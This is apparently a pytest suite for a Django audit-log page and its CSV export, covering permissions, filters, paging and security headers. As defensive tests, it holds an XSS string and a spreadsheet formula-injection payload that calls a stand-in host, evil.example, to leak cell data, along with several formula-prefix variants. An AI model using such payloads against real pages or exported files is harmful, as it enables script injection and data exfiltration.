"""The audit log as a page and as a file."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from html import unescape
from uuid import uuid4

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from django.utils.html import strip_tags

from closient_auth.actors import Actor
from closient_auth.dashboard.audit import MODELS, defuse
from closient_auth.models import AuditEntry
from closient_auth.models.audit import Event
from tests.dashboard.conftest import ROLES
from tests.dashboard.routes import get_text
from tests.factories import MembershipFactory, OrganizationFactory, UserFactory, make_key
from tests.memberships.conftest import use
from tests.memberships.models import Team
from tests.memberships.people import join

pytestmark = pytest.mark.django_db

PAGE, FILE = "/settings/o/acme/audit/", "/settings/o/acme/audit/csv/"
# Who sees the log.
ADMITTED = {"owner": 200, "manager": 200, "billing": 403, "editor": 403}
XSS = "<script>alert(1)</script>"


@pytest.fixture
def log(acme, people):
    """Clear the log, and return a function to add an entry of Acme."""
    AuditEntry.objects.all()._erase()

    def log(event="organization_changed", created_at=None, **values):
        fields = {
            "actor": "ada",
            "organization_id": acme.pk,
            "target_model": "organization",
            "target_id": uuid4(),
            "target": "Acme Foods",
            **values,
        }
        entry = AuditEntry.objects.create(event=event, **fields)
        if created_at:
            AuditEntry.objects.filter(pk=entry.pk)._overwrite(created_at=created_at)
        return entry

    return log


def read(response):
    """Return the sentences on a page, without tags."""
    assert response.status_code == 200
    found = re.findall(r'<li class="ca-\w+">\s*<p>(.*?)</p>', response.text, re.S)
    return [unescape(strip_tags(text)) for text in found]


def read_file(response):
    """Return the rows of a file by their titles."""
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("url", [PAGE, FILE])
def test_roles(sign_in, people, log, role, url):
    log(target="Something secret")
    response = sign_in(people[role]).get(url)

    assert response.status_code == ADMITTED[role]
    if ADMITTED[role] == 403:
        assert "Your role does not allow this." in response.text
        assert "secret" not in response.text


@pytest.mark.parametrize("url", [PAGE, FILE])
def test_others(client, sign_in, outsider, log, url):
    log()
    assert client.get(url).status_code == 302
    client = sign_in(outsider)
    foreign, unknown = client.get(url), client.get(url.replace("acme", "umbra"))

    assert (foreign.status_code, unknown.status_code) == (404, 404)
    assert get_text(foreign).replace("acme", "umbra") == get_text(unknown)


def test_a_superuser_sees_the_log(sign_in, log):
    log()
    client = sign_in(UserFactory.create(is_superuser=True))

    assert len(read(client.get(PAGE))) == 1
    assert len(read_file(client.get(FILE))) == 1


@pytest.mark.parametrize("url", [PAGE, FILE])
def test_a_suspended_organization(owner, acme, url):
    acme.suspend()

    assert owner.get(url).status_code == 403


@pytest.mark.parametrize(("name", "status"), [("lead", 200), ("clerk", 403)])
def test_members_of_a_project(sign_in, settings, acme, log, name, status):
    """The permission is that of the project's own rows, as in the management API."""
    use(settings, "TeamMemberships")
    log()
    client = sign_in(join(Team.objects.create(name="Acme", code="acme", organization=acme), name))

    for url in (PAGE, FILE):
        assert client.get(url.replace("acme", str(acme.pk))).status_code == status


@pytest.mark.parametrize("url", [PAGE, FILE])
def test_nothing_can_be_posted(owner, log, url):
    log()
    assert owner.post(url).status_code == 405
    assert AuditEntry.objects.count() == 1


def test_only_own_entries_newest_first(owner, log):
    now = timezone.now()
    log(target="Old", created_at=now - timedelta(hours=2))
    log(target="New", created_at=now - timedelta(hours=1))
    log(target="Foreign", organization_id=OrganizationFactory.create().pk)
    sentences = [f"ada changed the organization {name}" for name in ("New", "Old")]

    assert [text for text in read(owner.get(PAGE)) if "system" not in text] == sentences
    assert [row["What happened"] for row in read_file(owner.get(FILE))] == sentences


def test_an_entry(owner, log, people):
    user = people["owner"]
    user.first_name, user.last_name = "Ada", "Lindqvist"
    user.save()
    entry = log(
        "member_changed",
        created_at=timezone.now() - timedelta(minutes=5),
        user=user,
        actor="the-owner",
        address="203.0.113.7",
        target_model="membership",
        target="eli: Owner",
        old_values={"role": "editor"},
        new_values={"role": "owner"},
    )
    page = owner.get(PAGE).text

    assert "<b>Ada Lindqvist</b> changed the role of <b>eli</b> from <b>Editor</b> to <b>Owner</b>" in page
    assert re.search(r'<time datetime="[^"]+" title="[^"]+">5 minutes ago</time> · the-owner', page)
    assert "<code>203.0.113.7</code>" in page
    assert '<th scope="row">Role</th><td>Editor</td><td>Owner</td>' in page
    assert f'<a href="?target={entry.target_id}">History' in page
    # No JSON.
    assert "{" not in page.partition("<main")[2]


def test_names_that_say_more_than_the_account_are_shown_with_it(owner, log, people):
    log(user=people["editor"], actor="the-editor")

    assert "· the-editor" not in owner.get(PAGE).text


def test_days(owner, log):
    with timezone.override("America/Chicago"):
        log(target="Late", created_at=datetime(2026, 3, 2, 5, tzinfo=UTC))
        log(target="Early", created_at=datetime(2026, 3, 2, 7, tzinfo=UTC))
        page = owner.get(PAGE).text

    assert re.findall(r"<h2 class=.ca-day.><time[^>]*>(.*?)</time>", page) == ["March 2, 2026", "March 1, 2026"]


# By their events; the group is what the entry is about.
GROUPS: dict[str, set[str]] = {
    "keys": {event for event in Event if "api_key" in event},
    "members": {"member_added", "member_changed", "member_removed"},
    "invitations": {event for event in Event if "invitation" in event},
    "organization": {"organization_created", "organization_changed", "organization_deleted"},
}
MODEL_OF = {event: MODELS[group] for group, events in GROUPS.items() for event in events}


@pytest.mark.parametrize("group", GROUPS)
def test_filter_by_group(owner, log, group):
    for event, model in MODEL_OF.items():
        log(event, target_model=model)
    rows = read_file(owner.get(FILE, {"group": group}))

    assert {row["Event"] for row in rows} == GROUPS[group]
    assert len(rows) == len(GROUPS[group])
    assert len(read(owner.get(PAGE, {"group": group}))) == len(rows)


def test_every_event_of_an_organization_has_a_group():
    assert set(Event) - set(MODEL_OF) == {Event.AUDIT_PRUNED, Event.USER_FORGOTTEN}


@pytest.mark.parametrize(
    ("person", "found"),
    [
        ("lindqvist", ["ada"]),
        ("Ada  Lind", ["ada"]),
        ("ADA", ["ada", "adam"]),
        ("lindqvist novak", []),
        ("system", ["system"]),
        ("%", []),
    ],
)
def test_filter_by_person(owner, log, person, found):
    log(actor="ada", user=UserFactory.create(username="ada", first_name="Ada", last_name="Lindqvist"))
    log(actor="adam", user=UserFactory.create(username="adam", first_name="Eli", last_name="Novak"))
    log(actor="system")
    rows = read_file(owner.get(FILE, {"person": person}))

    assert sorted(row["Who"] for row in rows) == found


def test_filter_by_target(owner, log):
    entry = log(target="This")
    log(target="That")
    page = owner.get(PAGE, {"target": entry.target_id})

    assert read(page) == ["ada changed the organization This"]
    assert "Only entries about one key, member or invitation." in page.text
    # The other filters keep it.
    assert f'<input type="hidden" name="target" value="{entry.target_id}"' in page.text


@pytest.mark.parametrize(
    ("filters", "found"),
    [
        ({"since": "2026-03-01"}, ["b", "c", "d"]),
        ({"until": "2026-03-01"}, ["a", "b", "c"]),
        ({"since": "2026-03-01", "until": "2026-03-01"}, ["b", "c"]),
        ({"since": "2026-03-02", "until": "2026-03-01"}, []),
    ],
)
@pytest.mark.parametrize("use_tz", [True, pytest.param(False, marks=pytest.mark.sqlite)])
def test_filter_by_day(owner, log, settings, use_tz, filters, found):
    """The days are those of the current time zone, and the last one counts as a whole."""
    settings.USE_TZ = use_tz
    hours = {"a": (2, 28, 23, 59), "b": (3, 1, 0, 0), "c": (3, 1, 23, 59), "d": (3, 2, 0, 0)}
    with timezone.override("Pacific/Auckland"):
        for name, moment in hours.items():
            time = datetime(2026, *moment)
            log(target=name, created_at=timezone.make_aware(time) if use_tz else time)
        rows = read_file(owner.get(FILE, filters))

    assert sorted(row["Target"] for row in rows) == found


@pytest.mark.parametrize(
    ("filters", "error"),
    [
        ({"group": "planets"}, "Select a valid choice."),
        ({"since": "yesterday"}, "Enter a valid date."),
        ({"since": "0001-01-01"}, "greater than or equal to"),
        ({"until": "9999-12-31"}, "less than or equal to"),
        ({"target": "x"}, "Enter a valid UUID."),
        ({"person": "a" * 256}, "at most 255 characters"),
        ({"person": "a\0"}, "Null characters are not allowed."),
    ],
)
def test_an_invalid_filter_shows_an_error_and_no_entry(owner, log, filters, error):
    log()
    response = owner.get(PAGE, filters)

    assert error in response.text
    assert read(response) == []
    assert not re.search("No entry matches|No older entry|Nothing has happened", response.text)
    redirected = owner.get(FILE, filters)
    assert redirected.status_code == 302
    assert redirected["Location"].startswith(f"{PAGE}?")
    assert owner.get(redirected["Location"]).text.count(error) == response.text.count(error)


def test_pages(owner, log):
    for number in range(27):
        log(target=f"T{number:02}", created_at=datetime(2026, 3, 2, 5, number, tzinfo=UTC))
    first, second = owner.get(PAGE, {"group": "organization"}), owner.get(f"{PAGE}?group=organization&page=2")

    assert len(read(first)) == 25
    assert [text[-3:] for text in read(second)] == ["T01", "T00"]
    assert 'href="?group=organization&amp;page=2"' in first.text
    assert "No older entry matches." not in first.text
    assert "No older entry matches." in second.text
    assert "There are no older entries." in owner.get(f"{PAGE}?page=2").text
    # The file has all of them, from whatever page it is asked for.
    assert 'href="/settings/o/acme/audit/csv/?group=organization"' in second.text
    assert len(read_file(owner.get(FILE, {"group": "organization", "page": 2}))) == 27


def test_an_empty_log(owner, log):
    page = owner.get(PAGE).text
    assert "Nothing has happened yet" in page
    assert "Download as CSV" not in page

    log()
    page = owner.get(PAGE, {"group": "keys"}).text
    assert "No entry matches" in page
    assert f'href="{PAGE}">Clear filters' in page


def test_number_of_queries(owner, acme, log, people):
    """The pages of 1 and of 25 entries take the same number of queries, and the file takes one for the entries."""

    def count(url):
        with CaptureQueriesContext(connection) as queries:
            response = owner.get(url)
            if response.streaming:
                assert b"".join(response.streaming_content)
        return len(queries)

    log(user=people["owner"])
    before = {url: count(url) for url in (PAGE, FILE)}
    for role in ROLES:
        for _ in range(10):
            make_key("csb", organization=acme, by=people["owner"])
            log(user=people[role])

    assert {url: count(url) for url in (PAGE, FILE)} == before


def test_no_text_of_an_entry_becomes_html(owner, log, people):
    log(
        XSS[:32],
        user=people["owner"],
        actor=XSS,
        address=XSS,
        target=XSS,
        target_model=XSS,
        old_values={XSS: XSS},
        new_values={XSS: XSS},
    )

    for query in ({}, {"person": XSS}, {"group": XSS}, {"since": XSS}, {"target": XSS}):
        page = owner.get(PAGE, query).text
        assert "<script>alert" not in page
    assert "&lt;script&gt;alert" in owner.get(PAGE).text


def test_the_file(owner, acme, log):
    entry = log(
        "api_key_changed",
        created_at=datetime(2026, 3, 2, 5, tzinfo=UTC),
        address="203.0.113.7",
        target_model="apikey",
        target="csb_abcd… A & B",
        old_values={"name": "A", "description": "x"},
        new_values={"name": "A & B", "description": ""},
    )
    with timezone.override("UTC"):
        response = owner.get(FILE)
        rows = read_file(response)

    assert rows == [
        {
            "Time": "2026-03-02T05:00:00+00:00",
            "Event": "api_key_changed",
            "What happened": "ada changed the key A & B csb_abcd…",
            "Who": "ada",
            "Address": "203.0.113.7",
            "Changes": "Name: A → A & B; Description: x → none",
            "Target": "csb_abcd… A & B",
            "Target id": str(entry.target_id),
        }
    ]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="audit-acme-\d{4}-\d\d-\d\d\.csv"', response["Content-Disposition"])


@pytest.mark.parametrize("size", [1, 2, 3, 5, 6, 7])
def test_a_long_file(owner, log, monkeypatch, size):
    """It is read in parts, and no entry is lost or repeated between them, also of one moment."""
    monkeypatch.setattr("closient_auth.dashboard.audit.BATCH_SIZE", size)
    moments = [datetime(2026, 3, 2, 5, minute, tzinfo=UTC) for minute in (3, 2, 2, 2, 2, 1)]
    for number, moment in enumerate(moments):
        log(target=f"T{number}", created_at=moment)
    log("api_key_created", target_model="apikey", target="Left out")
    names = [row["Target"] for row in read_file(owner.get(FILE, {"group": "organization"}))]

    assert (names[0], names[-1]) == ("T0", "T5")
    assert sorted(names) == [f"T{number}" for number in range(6)]


def test_headers_of_the_file(owner, log):
    response = owner.get(FILE)

    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["X-Frame-Options"] == "DENY"
    assert "default-src 'none'" in response["Content-Security-Policy"]


def test_the_file_keeps_the_language_and_time_zone_of_the_request(owner, log):
    log("organization_created", created_at=datetime(2026, 3, 2, 5, tzinfo=UTC))
    with timezone.override("Europe/Berlin"), translation.override("de"):
        response = owner.get(FILE)
        content = iter(response.streaming_content)
        next(content)
    with timezone.override("America/Chicago"), translation.override("en"):
        row = next(content).decode()

    assert row.startswith('"2026-03-02T06:00:00+01:00"')
    assert timezone.get_current_timezone_name() != "Europe/Berlin"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Warehouse", "Warehouse"),
        ("", ""),
        ("a=b", "a=b"),
        ("x - y", "x - y"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "\t'=1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =1", " '=1"),
        ('"=1', "\"'=1"),
        ("＝1", "'＝1"),
        # A program that separates cells with semicolons ignores the quotes of ours.
        ("x;=1", "x;'=1"),
        ('x;"=1', "x;\"'=1"),
        ("x\n=1;@y", "x\n'=1;'@y"),
    ],
)
def test_formulas_are_defused(text, cell):
    assert defuse(text) == cell


def test_a_name_that_is_a_formula(owner, acme, people, log):
    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    user = UserFactory.create(username="+evil@example.com")
    MembershipFactory.create(organization=acme, user=user, role="owner")
    key, _ = make_key("csb", organization=acme, name=evil, by=Actor(user))
    log(actor=evil, address="-1", target=evil, new_values={evil: evil})

    for row in read_file(owner.get(FILE)):
        for cell in row.values():
            assert not re.match(r"[=+\-@\t\r]", cell)
